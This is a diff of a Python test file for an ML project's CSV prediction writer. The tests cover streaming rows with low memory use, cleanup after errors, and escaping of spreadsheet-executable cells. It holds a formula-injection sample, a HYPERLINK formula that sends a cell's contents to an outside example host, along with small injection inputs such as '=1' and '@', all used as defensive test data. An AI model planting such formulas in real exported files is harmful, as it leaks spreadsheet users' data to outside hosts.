@@ -4,6 +4,8 @@ import csv
 import math
 import os
 import sys
+import tracemalloc
+from collections import Counter
 
 import pytest
 import torch
@@ -13,7 +15,7 @@ from hypothesis import strategies as st
 from ssl.data.decode import decode
 from ssl.evaluation import plots
 from ssl.evaluation.metrics import classification
-from ssl.evaluation.predictions import PLAIN_NUMBER, RUN_BY_SPREADSHEETS, write_predictions
+from ssl.evaluation.predictions import PLAIN_NUMBER, RUN_BY_SPREADSHEETS, Row, write_predictions, write_rows
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"see")'
 
@@ -85,6 +87,58 @@ def test_an_old_file_stays_where_the_new_one_cannot_be_written(tmp_path, monkeyp
     with pytest.raises(OSError, match="no space"):
         write_predictions(path, ["a"], torch.tensor([0]), torch.tensor([[1.0]]), ["a"])
     assert path.read_text() == "old" and os.listdir(tmp_path) == ["p.csv"]
+
+
+# rows as they come
+
+
+@settings(max_examples=100, deadline=None)
+@example("data/=1", "-2+3", "@")
+@given(*[st.text(st.characters(exclude_characters="\0"))] * 3)
+def test_rows_are_harmless_and_come_back(tmp_path_factory, name, label, reason):
+    path = tmp_path_factory.getbasetemp() / "rows.csv"
+    rows = [Row(f"data/{name}", [0.25, 0.75]), Row("data/bad", None, reason), Row("data/a", [0.5, 0.5])]
+    counts = write_rows(path, iter(rows), "data/", ["first", label])
+    header, *found = read(path)
+    assert header[:3] == ["name", "predicted", "probability"] and header[-1] == "unread" and len(header) == 6
+    run = [cell for row in [header, *found] for cell in row if cell.startswith(RUN_BY_SPREADSHEETS)]
+    assert all(PLAIN_NUMBER.fullmatch(cell) and math.isfinite(float(cell)) for cell in run)
+    written, because = (text.encode("utf-8", "backslashreplace").decode() for text in (name, reason))
+    assert found[0][0] in (written, "'" + written) and found[0][2:] == ["0.75", "0.25", "0.75", ""]
+    assert found[1][:-1] == ["bad", "", "", "", ""] and found[1][-1] in (because, "'" + because)
+    assert found[2][:3] == ["a", "first", "0.5"]  # the first of equals, as of write_predictions
+    assert counts == Counter({label: 1}) + Counter({"first": 1})
+
+
+def test_rows_are_not_kept(tmp_path):
+    """The memory for 20,000 rows is what the largest buffer takes; a list of them takes many times that."""
+
+    def rows(count: int):
+        for number in range(count):
+            yield Row(f"{number}.png", [number / count] * 10)
+
+    def peak(make) -> int:
+        tracemalloc.start()
+        try:
+            make()
+            return tracemalloc.get_traced_memory()[1]
+        finally:
+            tracemalloc.stop()
+
+    write_rows(tmp_path / "warm.csv", rows(2), "", list("abcdefghij"))
+    streamed = peak(lambda: write_rows(tmp_path / "p.csv", rows(20_000), "", list("abcdefghij")))
+    assert len(read(tmp_path / "p.csv")) == 20_001
+    assert streamed < 1 << 20 < 1 << 22 < peak(lambda: list(rows(20_000)))  # the last is the control
+
+
+def test_no_file_is_left_by_rows_that_end_in_an_error(tmp_path):
+    def rows():
+        yield Row("a.png", [1.0])
+        raise RuntimeError("the second image")
+
+    with pytest.raises(RuntimeError, match="the second image"):
+        write_rows(tmp_path / "p.csv", rows(), "", ["a"])
+    assert not os.listdir(tmp_path)
 
 
 # pictures
